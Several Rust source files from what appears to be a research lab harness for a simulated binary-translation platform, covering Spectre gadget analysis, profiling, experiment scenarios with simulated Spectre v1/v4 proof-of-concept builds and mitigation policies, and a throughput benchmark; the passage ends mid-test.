    dbt_workloads::SUITE_NAMES.iter().copied().find(|n| *n == name).ok_or_else(|| {
        format!(
            "unknown program `{name}`; valid programs: {}, ptr-matmul, spectre-v1, spectre-v4",
            dbt_workloads::SUITE_NAMES.join(", ")
        )
    })
}

/// Runs `label` on the unprotected platform (aggressive speculation, no
/// hardening — the verdicts describe what *would* leak) and collects every
/// cached per-block verdict.
///
/// # Errors
///
/// Returns a message if the program cannot be built or the run faults.
pub fn analyze_program(label: &str, size: WorkloadSize) -> Result<AnalyzeReport, String> {
    let spec = resolve_program(label, size)?;
    analyze_built(label, &spec.build()?)
}

/// [`analyze_program`] for an already-built program — the entry point for
/// ad-hoc programs (uploaded over the daemon protocol or read from a `.s`
/// or image file), which exist outside the registry namespace. `label` is
/// only the report's display name; the analysis depends on nothing but
/// the program bytes, so equal programs produce byte-identical reports
/// whatever they are called from.
///
/// # Errors
///
/// Returns a message if the run faults.
pub fn analyze_built(label: &str, program: &dbt_riscv::Program) -> Result<AnalyzeReport, String> {
    let config = PlatformConfig::for_policy(MitigationPolicy::Unprotected);
    let mut session =
        Session::builder().program(program).config(config).build().map_err(|e| e.to_string())?;
    session.run().map_err(|e| e.to_string())?;

    let engine = session.engine();
    let mut blocks = Vec::new();
    for (pc, ir, verdict) in engine.tcache().analyzed() {
        // Rebuild the *unconstrained* dependency graph of the cached IR
        // block — the overlay shows the relaxable edges the analysis saw,
        // not the hardened graph the scheduler consumed.
        let graph = DepGraph::build(&ir, engine.config().speculation);
        let overlay = TaintOverlay {
            sources: verdict.sources.iter().map(|s| s.load).collect(),
            tainted: verdict.tainted_values.clone(),
            transmitters: verdict.transmitters.clone(),
        };
        blocks.push(BlockAnalysis {
            entry_pc: pc,
            verdict,
            dot: dot::render_with_overlay(&ir, &graph, &overlay),
        });
    }
    Ok(AnalyzeReport { program: label.to_string(), blocks })
}

impl AnalyzeReport {
    /// Number of blocks with at least one confirmed gadget.
    pub fn flagged_blocks(&self) -> usize {
        self.blocks.iter().filter(|b| !b.verdict.is_leak_free()).count()
    }

    /// Stable machine-readable form (fixed key order, deterministic).
    pub fn to_json(&self) -> String {
        let mut out = String::new();
        out.push_str("{\n");
        out.push_str("  \"schema\": \"dbt-lab/analyze/v1\",\n");
        out.push_str(&format!("  \"program\": \"{}\",\n", crate::json::escape(&self.program)));
        out.push_str(&format!("  \"flagged_blocks\": {},\n", self.flagged_blocks()));
        out.push_str("  \"blocks\": [");
        for (i, block) in self.blocks.iter().enumerate() {
            out.push_str(if i == 0 { "\n" } else { ",\n" });
            // Re-indent the verdict's own JSON under the array.
            let verdict = block.verdict.to_json();
            for (j, line) in verdict.lines().enumerate() {
                if j > 0 {
                    out.push('\n');
                }
                out.push_str("    ");
                out.push_str(line);
            }
        }
        out.push_str(if self.blocks.is_empty() { "]\n" } else { "\n  ]\n" });
        out.push_str("}\n");
        out
    }

    /// The Graphviz documents, one per block, separated by blank lines.
    pub fn to_dot(&self) -> String {
        let mut out = String::new();
        for block in &self.blocks {
            out.push_str(&format!("// block @{:#x}\n", block.entry_pc));
            out.push_str(&block.dot);
            out.push('\n');
        }
        out
    }
}

impl fmt::Display for AnalyzeReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(
            f,
            "{}: {} optimised block(s), {} flagged",
            self.program,
            self.blocks.len(),
            self.flagged_blocks()
        )?;
        for block in &self.blocks {
            write!(f, "  {}", block.verdict)?;
            if block.verdict.is_leak_free() {
                writeln!(f)?;
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unknown_programs_are_rejected_with_guidance() {
        let err = resolve_program("nope", WorkloadSize::Mini).unwrap_err();
        assert!(err.contains("nope"), "{err}");
        assert!(resolve_program("gemm", WorkloadSize::Mini).is_ok());
        assert!(resolve_program("spectre-v1", WorkloadSize::Mini).is_ok());
        assert!(resolve_program("ptr-matmul", WorkloadSize::Mini).is_ok());
    }

    #[test]
    fn histogram_blocks_are_all_leak_free() {
        let report = analyze_program("histogram", WorkloadSize::Mini).unwrap();
        assert!(!report.blocks.is_empty(), "the hot loop must produce superblocks");
        assert_eq!(report.flagged_blocks(), 0, "{report}");
        let json = report.to_json();
        assert_eq!(json, analyze_program("histogram", WorkloadSize::Mini).unwrap().to_json());
        assert!(json.contains("\"flagged_blocks\": 0"));
        let dot = report.to_dot();
        assert!(dot.contains("digraph"));
    }

    #[test]
    fn spectre_v1_is_flagged_with_a_colored_gadget() {
        let report = analyze_program("spectre-v1", WorkloadSize::Mini).unwrap();
        assert!(report.flagged_blocks() > 0, "{report}");
        assert!(report.to_json().contains("\"leak_free\": false"));
        // The flagged victim block colors its transmitter red.
        assert!(report.to_dot().contains("#e57373"));
    }
}
