//! `lab profile`: the deterministic hot-path profile of one program.
//!
//! A profile run executes one registry program (or an already-built
//! ad-hoc program) under one mitigation policy on the default platform
//! and renders the platform's [`ProfileReport`] — per-phase cycle
//! attribution, speculation events, translation counters — plus the
//! core's flight-recorder trace as a Chrome `trace_event` JSON document
//! (load it at `chrome://tracing` or <https://ui.perfetto.dev>).
//!
//! Everything here is cycle-domain: two invocations of the same profile
//! render byte-identical reports and traces, so both can be committed
//! and diffed in CI. Each profile runs on a fresh session with its own
//! translation service — the report's translation counters describe the
//! program, not the warmth of some shared cache.

use crate::analyze::resolve_program;
use dbt_platform::{ProfileReport, Session};
use dbt_workloads::WorkloadSize;
use ghostbusters::MitigationPolicy;

/// One finished profile run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProfileOutput {
    /// The deterministic cycle-domain report.
    pub report: ProfileReport,
    /// Chrome `trace_event` JSON of the flight-recorder ring
    /// (1 simulated cycle = 1 trace microsecond).
    pub chrome_trace: String,
}

/// Canonical form of a user-supplied profile label: registry labels use
/// hyphens (`spectre-v1`), but the attack crates and paper use
/// underscores (`spectre_v1`) — accept both.
pub fn canonical_label(label: &str) -> String {
    label.replace('_', "-")
}

/// Profiles one registry program (a workload name, `ptr-matmul`,
/// `spectre-v1`/`spectre_v1`, ...) under `policy` on the default
/// platform.
///
/// # Errors
///
/// Returns a human-readable message if the label is unknown, the
/// program does not build, or the run faults.
pub fn profile_program(
    label: &str,
    policy: MitigationPolicy,
    size: WorkloadSize,
) -> Result<ProfileOutput, String> {
    let label = canonical_label(label);
    let spec = resolve_program(&label, size)?;
    profile_built(&label, &spec.build()?, policy)
}

/// [`profile_program`] for an already-built program (ad-hoc sources,
/// daemon program refs). `label` is only the report's display name.
///
/// # Errors
///
/// Returns a message if the run faults.
pub fn profile_built(
    label: &str,
    program: &dbt_riscv::Program,
    policy: MitigationPolicy,
) -> Result<ProfileOutput, String> {
    let mut session =
        Session::builder().program(program).policy(policy).build().map_err(|e| e.to_string())?;
    let summary = session.run().map_err(|e| e.to_string())?;
    let report = session.profile_report(label, &summary);
    let chrome_trace = session.core().profiler().chrome_trace_json();
    Ok(ProfileOutput { report, chrome_trace })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn labels_accept_both_spellings() {
        assert_eq!(canonical_label("spectre_v1"), "spectre-v1");
        assert_eq!(canonical_label("gemm"), "gemm");
        let a =
            profile_program("spectre_v1", MitigationPolicy::Selective, WorkloadSize::Mini).unwrap();
        let b =
            profile_program("spectre-v1", MitigationPolicy::Selective, WorkloadSize::Mini).unwrap();
        assert_eq!(a, b, "spelling is presentation, not identity");
        assert!(profile_program("nope", MitigationPolicy::Fence, WorkloadSize::Mini).is_err());
    }

    #[test]
    fn profiles_are_byte_stable_and_internally_consistent() {
        let run = || {
            profile_program("spectre-v1", MitigationPolicy::Selective, WorkloadSize::Mini).unwrap()
        };
        let (a, b) = (run(), run());
        assert_eq!(a.report.to_json(), b.report.to_json());
        assert_eq!(a.report.to_text(), b.report.to_text());
        assert_eq!(a.chrome_trace, b.chrome_trace);
        assert_eq!(a.report.phases.total(), a.report.cycles, "phases partition the cycle count");
        assert_eq!(a.report.program, "spectre-v1");
        assert!(a.chrome_trace.contains("\"traceEvents\""), "{}", a.chrome_trace);
        assert!(a.chrome_trace.contains("\"clock\":\"simulated-cycles\""), "missing clock note");
    }

    #[test]
    fn attack_profiles_see_speculation_events() {
        // The v1 PoC leaks through branch speculation: the profile must
        // show mispredicted side exits and speculative loads, and under
        // the MCB-carrying policies spectre-v4 shows rollbacks.
        let v1 = profile_program("spectre-v1", MitigationPolicy::Unprotected, WorkloadSize::Mini)
            .unwrap()
            .report;
        assert!(v1.events.mispredicts > 0, "{:?}", v1.events);
        assert!(v1.events.speculative_loads > 0, "{:?}", v1.events);
        assert!(v1.events.l1d_hits + v1.events.l1d_misses > 0, "{:?}", v1.events);
        let v4 = profile_program("spectre-v4", MitigationPolicy::Unprotected, WorkloadSize::Mini)
            .unwrap()
            .report;
        assert!(v4.events.mcb_hits > 0, "{:?}", v4.events);
        assert!(v4.events.squashed_insts > 0, "{:?}", v4.events);
        assert!(v4.phases.rollback > 0, "{:?}", v4.phases);
    }
}
