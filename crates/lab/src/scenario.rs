//! The scenario model: what to run (program), how to harden it (policy),
//! on which machine (platform overrides) and what to measure (kind).

use dbt_cache::CacheConfig;
use dbt_platform::PlatformConfig;
use dbt_riscv::Program;
use dbt_workloads::{pointer_matmul, suite, WorkloadSize};
use ghostbusters::MitigationPolicy;
use std::sync::Arc;

/// What a scenario measures.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ScenarioKind {
    /// Cycle counts and slowdown relative to the unprotected baseline.
    Perf,
    /// Secret-recovery rate of a Spectre proof-of-concept.
    Attack,
}

impl ScenarioKind {
    /// Lower-case label used in scenario names and JSON.
    pub fn label(self) -> &'static str {
        match self {
            ScenarioKind::Perf => "perf",
            ScenarioKind::Attack => "attack",
        }
    }
}

/// Which Spectre proof-of-concept program to build.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackVariant {
    /// Bounds-check bypass via trace-scheduling speculation.
    SpectreV1,
    /// Store-bypass via Memory Conflict Buffer speculation.
    SpectreV4,
}

impl AttackVariant {
    /// Label used in tables and scenario names.
    pub fn label(self) -> &'static str {
        match self {
            AttackVariant::SpectreV1 => "spectre-v1",
            AttackVariant::SpectreV4 => "spectre-v4",
        }
    }
}

/// The textual form of an ad-hoc program source.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SourceKind {
    /// Text assembly ([`dbt_riscv::parse_asm`]).
    Asm,
    /// A program-image JSON document ([`dbt_riscv::Program::from_image`]).
    Image,
}

impl SourceKind {
    /// Lower-case label used in spec keys.
    pub fn label(self) -> &'static str {
        match self {
            SourceKind::Asm => "asm",
            SourceKind::Image => "image",
        }
    }
}

/// Stable 64-bit content hash used in spec keys (the same in-process
/// determinism contract as [`Program::fingerprint`]).
fn hash64(bytes: &[u8]) -> u64 {
    use std::hash::{Hash, Hasher};
    let mut hasher = std::collections::hash_map::DefaultHasher::new();
    bytes.hash(&mut hasher);
    hasher.finish()
}

/// A recipe for building one guest program.
///
/// Programs are described declaratively so scenarios can be listed, named
/// and expanded without assembling anything; the executor builds the actual
/// [`Program`] only when the job runs. Beyond the in-repo recipes, a spec
/// can carry an *ad-hoc* program: one already resident in a
/// [`ProgramStore`](dbt_platform::ProgramStore) ([`ProgramSpec::Stored`])
/// or raw source text submitted by a client ([`ProgramSpec::Source`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ProgramSpec {
    /// A kernel from the Polybench-style suite, by name.
    Workload {
        /// Kernel name as reported by [`dbt_workloads::suite`].
        name: &'static str,
        /// Problem-size preset.
        size: WorkloadSize,
    },
    /// The pointer-array matrix multiplication experiment.
    PointerMatmul {
        /// Problem-size preset.
        size: WorkloadSize,
    },
    /// A Spectre proof-of-concept program with a planted secret.
    Attack {
        /// Which variant to build.
        variant: AttackVariant,
        /// The secret the victim holds (and the attacker tries to leak).
        secret: Vec<u8>,
    },
    /// An already-built program (resolved from a program store).
    Stored {
        /// Row label (usually the program ref that named it).
        label: String,
        /// The program itself, shared with the store.
        program: Arc<Program>,
        /// Optional secret planted in guest memory before the run — set
        /// when an ad-hoc request asks for attack-style measurement of a
        /// stored program.
        secret: Option<Vec<u8>>,
    },
    /// Raw program source, built on demand.
    Source {
        /// Row label (usually the source file's stem).
        label: String,
        /// Whether `text` is assembly or an image document.
        kind: SourceKind,
        /// The source text.
        text: String,
    },
}

impl ProgramSpec {
    /// Short display label (the row name in tables).
    pub fn label(&self) -> String {
        match self {
            ProgramSpec::Workload { name, .. } => (*name).to_string(),
            ProgramSpec::PointerMatmul { .. } => "ptr-matmul".to_string(),
            ProgramSpec::Attack { variant, .. } => variant.label().to_string(),
            ProgramSpec::Stored { label, .. } | ProgramSpec::Source { label, .. } => label.clone(),
        }
    }

    /// Stable identity of the *built program* — two specs with equal keys
    /// assemble byte-identical guest programs, so baseline cycles measured
    /// for one are valid for the other.
    ///
    /// Content-carrying variants key on content fingerprints: the built
    /// program's [`Program::fingerprint`] for both [`ProgramSpec::Stored`]
    /// and [`ProgramSpec::Source`] (so the asm, image and stored forms of
    /// one program share a single baseline-cache and run-memo identity),
    /// and a hash of the secret bytes for [`ProgramSpec::Attack`] (the
    /// secret is the only input of the attack builders). A source that
    /// does not build falls back to a hash of its raw text.
    pub fn key(&self) -> String {
        match self {
            ProgramSpec::Workload { name, size } => format!("workload:{name}@{size:?}"),
            ProgramSpec::PointerMatmul { size } => format!("ptr-matmul@{size:?}"),
            ProgramSpec::Attack { variant, secret } => {
                format!("{}@secret-fp:{:016x}", variant.label(), hash64(secret))
            }
            ProgramSpec::Stored { program, secret, .. } => match secret {
                Some(secret) => format!(
                    "stored:fp:{:016x}+secret-fp:{:016x}",
                    program.fingerprint(),
                    hash64(secret)
                ),
                None => format!("stored:fp:{:016x}", program.fingerprint()),
            },
            ProgramSpec::Source { kind, text, .. } => match self.build() {
                Ok(program) => format!("stored:fp:{:016x}", program.fingerprint()),
                Err(_) => format!("source:{}:{:016x}", kind.label(), hash64(text.as_bytes())),
            },
        }
    }

    /// The planted secret, for [`ScenarioKind::Attack`] scenarios.
    pub fn secret(&self) -> Option<&[u8]> {
        match self {
            ProgramSpec::Attack { secret, .. } => Some(secret),
            ProgramSpec::Stored { secret, .. } => secret.as_deref(),
            _ => None,
        }
    }

    /// Assembles the guest program.
    ///
    /// # Errors
    ///
    /// Returns a human-readable message if the kernel name is unknown,
    /// assembly fails, or an ad-hoc source does not parse.
    pub fn build(&self) -> Result<Program, String> {
        match self {
            ProgramSpec::Workload { name, size } => suite(*size)
                .into_iter()
                .find(|w| w.name == *name)
                .map(|w| w.program)
                .ok_or_else(|| format!("unknown workload `{name}`")),
            ProgramSpec::PointerMatmul { size } => Ok(pointer_matmul(*size).program),
            ProgramSpec::Attack { variant, secret } => match variant {
                AttackVariant::SpectreV1 => dbt_attacks::spectre_v1::build(secret)
                    .map_err(|e| format!("spectre-v1 does not assemble: {e}")),
                AttackVariant::SpectreV4 => dbt_attacks::spectre_v4::build(secret)
                    .map_err(|e| format!("spectre-v4 does not assemble: {e}")),
            },
            ProgramSpec::Stored { program, secret, .. } => match secret {
                None => Ok((**program).clone()),
                Some(secret) => plant_secret(program, secret),
            },
            ProgramSpec::Source { kind, text, .. } => match kind {
                SourceKind::Asm => dbt_riscv::parse_asm(text).map_err(|e| e.to_string()),
                SourceKind::Image => Program::from_image(text).map_err(|e| e.to_string()),
            },
        }
    }
}

/// Rebuilds `program` with `secret` written into its data section at the
/// `secret` symbol. The planted bytes are program content — the patched
/// program's [`Program::fingerprint`] differs from the original's, so
/// run-memo and baseline-cache entries never mix runs of different
/// secrets.
///
/// # Errors
///
/// The program must define a `secret` data symbol with room for the
/// planted bytes (the convention the in-repo attack builders follow).
fn plant_secret(program: &Program, secret: &[u8]) -> Result<Program, String> {
    let addr = program
        .symbol("secret")
        .ok_or_else(|| "program defines no `secret` symbol to plant into".to_string())?;
    let offset = addr
        .checked_sub(program.data_base())
        .ok_or_else(|| "`secret` symbol lies outside the data section".to_string())?
        as usize;
    let mut data = program.data().to_vec();
    let end =
        offset.checked_add(secret.len()).filter(|&end| end <= data.len()).ok_or_else(|| {
            format!(
                "`secret` buffer too small: {} byte(s) do not fit at data offset {offset} \
                 (data section is {} bytes)",
                secret.len(),
                data.len()
            )
        })?;
    data[offset..end].copy_from_slice(secret);
    Ok(Program::new(
        program.code_base(),
        program.code().to_vec(),
        program.data_base(),
        data,
        program.entry(),
        program.memory_size(),
        program.symbols().map(|(name, addr)| (name.to_string(), addr)).collect(),
    ))
}

/// Sparse overrides on top of the per-policy default platform.
///
/// `None` fields keep the value of [`PlatformConfig::for_policy`]; `Some`
/// fields replace it. This is the "platform axis" of a sweep: issue width,
/// cache geometry, speculation toggles.
#[derive(Debug, Clone, Copy, PartialEq, Default)]
pub struct PlatformOverrides {
    /// VLIW issue width (applied to both the scheduler and the core).
    pub issue_width: Option<usize>,
    /// Hot threshold of the DBT profiler.
    pub hot_threshold: Option<u64>,
    /// Enable/disable branch (trace-scheduling) speculation.
    pub branch_speculation: Option<bool>,
    /// Enable/disable memory (MCB) speculation.
    pub memory_speculation: Option<bool>,
    /// Data-cache geometry and latencies.
    pub cache: Option<CacheConfig>,
    /// Memory Conflict Buffer capacity.
    pub mcb_capacity: Option<usize>,
    /// Rollback penalty in cycles.
    pub rollback_penalty: Option<u64>,
    /// Block budget of one run.
    pub max_blocks: Option<u64>,
}

impl PlatformOverrides {
    /// Materialises the platform configuration for `policy` with these
    /// overrides applied.
    pub fn apply(&self, policy: MitigationPolicy) -> PlatformConfig {
        let mut config = PlatformConfig::for_policy(policy);
        if let Some(w) = self.issue_width {
            config.dbt.issue_width = w;
            config.core.issue_width = w;
        }
        if let Some(t) = self.hot_threshold {
            config.dbt.hot_threshold = t;
        }
        if let Some(b) = self.branch_speculation {
            config.dbt.speculation.branch_speculation = b;
        }
        if let Some(m) = self.memory_speculation {
            config.dbt.speculation.memory_speculation = m;
        }
        if let Some(c) = self.cache {
            config.core.cache = c;
        }
        if let Some(m) = self.mcb_capacity {
            config.core.mcb_capacity = m;
        }
        if let Some(p) = self.rollback_penalty {
            config.core.rollback_penalty = p;
        }
        if let Some(b) = self.max_blocks {
            config.max_blocks = b;
        }
        config
    }
}

/// A named point on the platform axis.
#[derive(Debug, Clone, PartialEq)]
pub struct PlatformVariant {
    /// Short name ("default", "issue-2", "no-branch-spec", ...).
    pub name: String,
    /// The overrides this variant applies.
    pub overrides: PlatformOverrides,
}

impl PlatformVariant {
    /// The default platform: no overrides.
    pub fn default_platform() -> PlatformVariant {
        PlatformVariant { name: "default".to_string(), overrides: PlatformOverrides::default() }
    }

    /// A named variant with the given overrides.
    pub fn new(name: &str, overrides: PlatformOverrides) -> PlatformVariant {
        PlatformVariant { name: name.to_string(), overrides }
    }
}

/// One fully-specified experiment: a program, a mitigation policy, a
/// platform and what to measure. This is the unit of work of the executor.
#[derive(Debug, Clone, PartialEq)]
pub struct Scenario {
    /// Globally unique name: `sweep/program/policy/platform`.
    pub name: String,
    /// Row label of the program (may differ from the spec's default label,
    /// e.g. "gemm (flat)" vs "gemm (ptr rows)").
    pub program_label: String,
    /// How to build the guest program.
    pub program: ProgramSpec,
    /// The countermeasure the DBT engine applies.
    pub policy: MitigationPolicy,
    /// The simulated machine.
    pub platform: PlatformVariant,
    /// What to measure.
    pub kind: ScenarioKind,
}

impl Scenario {
    /// Cache key identifying this scenario's unprotected baseline: same
    /// program, same platform ⇒ same baseline cycles.
    pub fn baseline_key(&self) -> String {
        format!("{}|{:?}", self.program.key(), self.platform.overrides)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn workload_specs_build() {
        let spec = ProgramSpec::Workload { name: "gemm", size: WorkloadSize::Mini };
        assert_eq!(spec.label(), "gemm");
        assert!(spec.build().is_ok());
        let bad = ProgramSpec::Workload { name: "nope", size: WorkloadSize::Mini };
        assert!(bad.build().is_err());
    }

    #[test]
    fn attack_specs_build_and_expose_the_secret() {
        for variant in [AttackVariant::SpectreV1, AttackVariant::SpectreV4] {
            let spec = ProgramSpec::Attack { variant, secret: b"GB".to_vec() };
            assert!(spec.build().is_ok(), "{} must assemble", variant.label());
            assert_eq!(spec.secret(), Some(&b"GB"[..]));
        }
    }

    #[test]
    fn attack_keys_are_content_fingerprints_not_debug_dumps() {
        let a = ProgramSpec::Attack { variant: AttackVariant::SpectreV1, secret: b"GB".to_vec() };
        let b = ProgramSpec::Attack { variant: AttackVariant::SpectreV1, secret: b"GB".to_vec() };
        let c = ProgramSpec::Attack { variant: AttackVariant::SpectreV1, secret: b"XY".to_vec() };
        assert_eq!(a.key(), b.key(), "equal secrets, equal keys");
        assert_ne!(a.key(), c.key(), "the secret is program content");
        assert!(!a.key().contains('['), "no debug formatting in keys: {}", a.key());
        assert!(a.key().contains("secret-fp:"), "{}", a.key());
    }

    #[test]
    fn stored_and_source_specs_key_on_content() {
        let program =
            Arc::new(dbt_riscv::parse_asm("li a0, 9\necall\n").expect("tiny program parses"));
        let stored = ProgramSpec::Stored {
            label: "fp:whatever".to_string(),
            program: Arc::clone(&program),
            secret: None,
        };
        assert_eq!(stored.label(), "fp:whatever");
        assert!(stored.key().contains(&format!("{:016x}", program.fingerprint())));
        assert_eq!(stored.build().unwrap(), *program);
        assert_eq!(stored.secret(), None);

        let with_secret = ProgramSpec::Stored {
            label: "fp:whatever".to_string(),
            program: Arc::clone(&program),
            secret: Some(b"GB".to_vec()),
        };
        assert_eq!(with_secret.secret(), Some(&b"GB"[..]));
        assert_ne!(with_secret.key(), stored.key(), "a planted secret changes run identity");

        let source = ProgramSpec::Source {
            label: "gadget".to_string(),
            kind: SourceKind::Asm,
            text: "li a0, 9\necall\n".to_string(),
        };
        assert_eq!(source.build().unwrap(), *program, "source builds the same program");
        let relabeled = ProgramSpec::Source {
            label: "other-name".to_string(),
            kind: SourceKind::Asm,
            text: "li a0, 9\necall\n".to_string(),
        };
        assert_eq!(source.key(), relabeled.key(), "labels are not identity; content is");

        let image = ProgramSpec::Source {
            label: "gadget".to_string(),
            kind: SourceKind::Image,
            text: program.to_image(),
        };
        assert_eq!(image.build().unwrap(), *program);
        assert_eq!(image.key(), source.key(), "same built program, same key across source forms");
        assert_eq!(image.key(), stored.key(), "source forms share the stored form's identity");

        let broken = ProgramSpec::Source {
            label: "broken".to_string(),
            kind: SourceKind::Asm,
            text: "frobnicate a0".to_string(),
        };
        assert!(broken.build().is_err());
        assert!(broken.key().starts_with("source:asm:"), "unbuildable sources keep the text hash");
    }

    #[test]
    fn stored_specs_plant_secrets_as_program_content() {
        // Patching a stored attack image reproduces what the builder
        // would have produced for that secret — byte for byte.
        let base = Arc::new(dbt_attacks::spectre_v1::build(b"AA").unwrap());
        let spec = ProgramSpec::Stored {
            label: "v1".to_string(),
            program: Arc::clone(&base),
            secret: Some(b"GB".to_vec()),
        };
        let planted = spec.build().unwrap();
        assert_eq!(planted, dbt_attacks::spectre_v1::build(b"GB").unwrap());
        assert_ne!(planted.fingerprint(), base.fingerprint(), "the secret is program content");

        // Programs without a secret buffer reject planting; oversized
        // secrets are caught instead of clobbering neighbouring data.
        let plain = Arc::new(dbt_riscv::parse_asm("li a0, 9\necall\n").unwrap());
        let no_buffer = ProgramSpec::Stored {
            label: "plain".to_string(),
            program: plain,
            secret: Some(b"GB".to_vec()),
        };
        assert!(no_buffer.build().unwrap_err().contains("no `secret` symbol"));
        let oversized = ProgramSpec::Stored {
            label: "v1".to_string(),
            program: base,
            secret: Some(vec![0u8; 1 << 20]),
        };
        assert!(oversized.build().unwrap_err().contains("too small"));
    }

    #[test]
    fn overrides_apply_on_top_of_the_policy_defaults() {
        let overrides = PlatformOverrides {
            issue_width: Some(2),
            branch_speculation: Some(false),
            ..PlatformOverrides::default()
        };
        let config = overrides.apply(MitigationPolicy::Unprotected);
        assert_eq!(config.dbt.issue_width, 2);
        assert_eq!(config.core.issue_width, 2);
        assert!(!config.dbt.speculation.branch_speculation);
        assert!(config.dbt.speculation.memory_speculation, "untouched field keeps its default");
    }

    #[test]
    fn baseline_key_depends_on_program_and_platform_but_not_policy() {
        let make = |policy, platform: PlatformVariant| Scenario {
            name: "t".into(),
            program_label: "gemm".into(),
            program: ProgramSpec::Workload { name: "gemm", size: WorkloadSize::Mini },
            policy,
            platform,
            kind: ScenarioKind::Perf,
        };
        let a = make(MitigationPolicy::Unprotected, PlatformVariant::default_platform());
        let b = make(MitigationPolicy::Fence, PlatformVariant::default_platform());
        assert_eq!(a.baseline_key(), b.baseline_key());
        let narrow = PlatformVariant::new(
            "issue-2",
            PlatformOverrides { issue_width: Some(2), ..PlatformOverrides::default() },
        );
        let c = make(MitigationPolicy::Unprotected, narrow);
        assert_ne!(a.baseline_key(), c.baseline_key());
    }
}
