//! `lab bench`: the simulator-throughput microbenchmark.
//!
//! Runs every registry workload (the Polybench-style suite plus
//! `ptr-matmul`) once on the unprotected default platform and reports,
//! per workload, the cycle-domain result (cycles, guest instructions,
//! blocks — deterministic, diffable) alongside the host-side throughput
//! (elapsed wall-clock, guest instructions and simulated cycles per
//! second — machine-dependent by nature).
//!
//! The JSON layout keeps the two domains on *disjoint lines*: every
//! wall-clock member is named `elapsed_us` or `*_per_sec` and nothing
//! else shares its line, so CI can diff a regenerated artifact against
//! the committed one with the timing lines filtered out
//! (`grep -v -e '"elapsed_us"' -e '_per_sec'`) and still compare every
//! deterministic byte.

use dbt_platform::Session;
use dbt_workloads::{pointer_matmul, suite, Workload, WorkloadSize};
use ghostbusters::MitigationPolicy;
use std::time::Instant;

/// One workload's measurement.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BenchRow {
    /// Workload name.
    pub name: String,
    /// Simulated cycles (deterministic).
    pub cycles: u64,
    /// Guest instructions retired (deterministic).
    pub guest_insts: u64,
    /// Translated blocks executed (deterministic).
    pub blocks: u64,
    /// Host wall-clock of the run, microseconds (machine-dependent).
    pub elapsed_us: u64,
}

impl BenchRow {
    /// Guest instructions simulated per host second (0 when the run was
    /// too fast for the clock).
    pub fn guest_insts_per_sec(&self) -> u64 {
        per_second(self.guest_insts, self.elapsed_us)
    }

    /// Simulated cycles per host second.
    pub fn cycles_per_sec(&self) -> u64 {
        per_second(self.cycles, self.elapsed_us)
    }
}

/// `count` events over `elapsed_us` microseconds, as events per second
/// in integer math (no float formatting in the artifact).
fn per_second(count: u64, elapsed_us: u64) -> u64 {
    if elapsed_us == 0 {
        return 0;
    }
    u64::try_from(count as u128 * 1_000_000 / elapsed_us as u128).unwrap_or(u64::MAX)
}

/// The whole benchmark: one row per registry workload.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BenchReport {
    /// Problem-size preset the workloads were built at.
    pub size: String,
    /// One row per workload, in registry order.
    pub rows: Vec<BenchRow>,
}

impl BenchReport {
    /// Renders the artifact JSON (`BENCH_sim-throughput.json`): fixed key
    /// order, two-space indent, wall-clock members on their own lines.
    pub fn to_json(&self) -> String {
        let mut out = String::new();
        out.push_str("{\n");
        out.push_str("  \"schema\": \"dbt-lab/bench/v1\",\n");
        out.push_str(&format!("  \"size\": \"{}\",\n", self.size));
        out.push_str("  \"policy\": \"unsafe\",\n");
        out.push_str("  \"workloads\": [\n");
        for (i, row) in self.rows.iter().enumerate() {
            let comma = if i + 1 == self.rows.len() { "" } else { "," };
            out.push_str("    {\n");
            out.push_str(&format!("      \"name\": \"{}\",\n", row.name));
            out.push_str(&format!("      \"cycles\": {},\n", row.cycles));
            out.push_str(&format!("      \"guest_insts\": {},\n", row.guest_insts));
            out.push_str(&format!("      \"blocks\": {},\n", row.blocks));
            out.push_str(&format!("      \"elapsed_us\": {},\n", row.elapsed_us));
            out.push_str(&format!(
                "      \"guest_insts_per_sec\": {},\n",
                row.guest_insts_per_sec()
            ));
            out.push_str(&format!("      \"cycles_per_sec\": {}\n", row.cycles_per_sec()));
            out.push_str(&format!("    }}{comma}\n"));
        }
        out.push_str("  ]\n");
        out.push_str("}\n");
        out
    }
}

/// The benchmark's workload list: the full suite plus `ptr-matmul`, in
/// registry order.
fn workloads(size: WorkloadSize) -> Vec<Workload> {
    let mut all = suite(size);
    all.push(pointer_matmul(size));
    all
}

/// Runs the benchmark at `size`.
///
/// # Errors
///
/// Returns a message if a workload fails to run (cannot happen for the
/// in-repo registry; surfaced instead of panicking all the same).
pub fn run_bench(size: WorkloadSize) -> Result<BenchReport, String> {
    let mut rows = Vec::new();
    for workload in workloads(size) {
        let started = Instant::now();
        let summary = Session::builder()
            .program(&workload.program)
            .policy(MitigationPolicy::Unprotected)
            .run()
            .map_err(|e| format!("{}: {e}", workload.name))?;
        let elapsed_us = started.elapsed().as_micros() as u64;
        rows.push(BenchRow {
            name: workload.name.to_string(),
            cycles: summary.cycles,
            guest_insts: summary.guest_insts,
            blocks: summary.blocks_executed,
            elapsed_us,
        });
    }
    Ok(BenchReport { size: format!("{size:?}").to_lowercase(), rows })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_registry_workload_gets_a_row() {
        let report = run_bench(WorkloadSize::Mini).unwrap();
        assert_eq!(report.rows.len(), dbt_workloads::SUITE_NAMES.len() + 1);
        assert_eq!(report.rows.last().unwrap().name, "ptr-matmul");
        for row in &report.rows {
            assert!(row.cycles > 0, "{row:?}");
            assert!(row.guest_insts > 0, "{row:?}");
            assert!(row.blocks > 0, "{row:?}");
        }
    }

    #[test]
    fn cycle_domain_bytes_are_stable_once_timing_lines_are_filtered() {
        let filter = |json: &str| -> String {
            json.lines()
                .filter(|line| !line.contains("\"elapsed_us\"") && !line.contains("_per_sec"))
                .collect::<Vec<_>>()
                .join("\n")
        };
        let a = run_bench(WorkloadSize::Mini).unwrap().to_json();
